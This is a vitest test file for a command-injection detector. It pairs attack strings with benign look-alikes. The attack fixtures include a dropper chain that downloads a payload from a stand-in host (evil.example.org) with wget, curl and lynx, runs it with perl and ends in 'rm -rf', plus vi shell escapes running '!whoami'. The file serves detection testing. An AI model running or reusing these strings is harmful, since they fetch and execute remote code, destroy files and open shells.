/**
 * Shapes helper-73 added for CRS 932: a one-line command chain whose own words (a quoted call
 * argument, URLs, paths) make it look like a document; a value opening with a pipe into an
 * editor; a power command typed alone and submitted. Each is paired with the posts, table rows and
 * words it must not take.
 */
import { describe } from 'vitest';
import { detectCmdi } from '../../src/detect/cmdi/index.ts';
import { checkAttacks, checkBenign } from './fixture-check.ts';

const dropper =
  "system('echo cd /tmp;wget http://evil.example.org/apache_32.png -O p2.txt;curl -O http://evil.example.org/apache_32.png; mv apache_32.png p.txt;lynx -DUMP http://evil.example.org/apache_32.png >p3.txt;perl p.txt; perl p2.txt;rm -rf";

describe('cmdi: a command chain padded into a "document" by its own words', () => {
  checkAttacks(detectCmdi, 'cmdi', [
    { value: dropper, location: 'body', rule: 'cmdi.code_exec_call' },
    { value: `Something „The Title”. After something ${dropper}`, location: 'body', rule: 'cmdi.code_exec_call' },
  ]);
  checkBenign(detectCmdi, [
    // a post of its own words quoting the call: the document guard still holds
    {
      value:
        "I don't understand why my script fails. When I call system('wget http://example.org/a.tgz -O /tmp/a.tgz') from PHP it works on my laptop but on the shared host nothing happens, and the error log stays empty. Does anyone know whether hosts disable it?",
      location: 'body',
    },
    // markup or three lines make it a post whatever the word count
    { value: `<p>Seen in our logs:</p><pre>${dropper}</pre>`, location: 'body' },
    { value: `Seen in our logs today:\n\n${dropper}\n\nIs this an attack?`, location: 'body' },
    // prose with apostrophes and quotes, no command
    { value: "That's two \"O\"s in goose, O'Keefe's 'joke' said, and it's \"the\" best one of all of them, we'd say; \"quite\" the thing 'really' truly indeed for sure.", location: 'body' },
  ]);
});

describe('cmdi: a value opening with a pipe into an editor', () => {
  checkAttacks(detectCmdi, 'cmdi', [
    { value: '|vi (x', rule: 'cmdi.chained_command' },
    { value: '|vi (x', location: 'body' },
    { value: '|nano /etc/hosts' },
    // CRS lists these as must-pass for 932230/932236 (its PL3 rule 932238 catches them): a shell all the same
    { value: ';vi -c:\\!pwd\n', location: 'body', rule: 'cmdi.editor_escape' },
    { value: ';vi dddd +silent\\\\ \\!whoami +wq\n', location: 'body', rule: 'cmdi.editor_escape' },
  ]);
  checkBenign(detectCmdi, [
    // a Roman numeral, a chapter, a table row of editor names (strict may flag vim: below 2)
    { value: 'see chapter vi (x)' },
    { value: 'Part VI' },
    { value: '| vi | vim |', below: 2 },
    { value: 'vi or nano?' },
  ]);
});

describe('cmdi: a power command typed alone and submitted', () => {
  checkAttacks(detectCmdi, 'cmdi', [
    { value: 'shutdown\n', location: 'body', severity: 1, rule: 'cmdi.command_line' },
    { value: 'reboot\n', location: 'body', severity: 1 },
  ]);
  checkBenign(detectCmdi, [
    { value: 'shutdown', location: 'body' },
    { value: 'Shutdown\n', location: 'body' },
    { value: 'government shutdown\n', location: 'body' },
    { value: 'reboot the router', location: 'body' },
    { value: 'I had to reboot; then it worked', location: 'body' },
    { value: 'shutdown\n', location: 'body', below: 2 },
  ]);
});
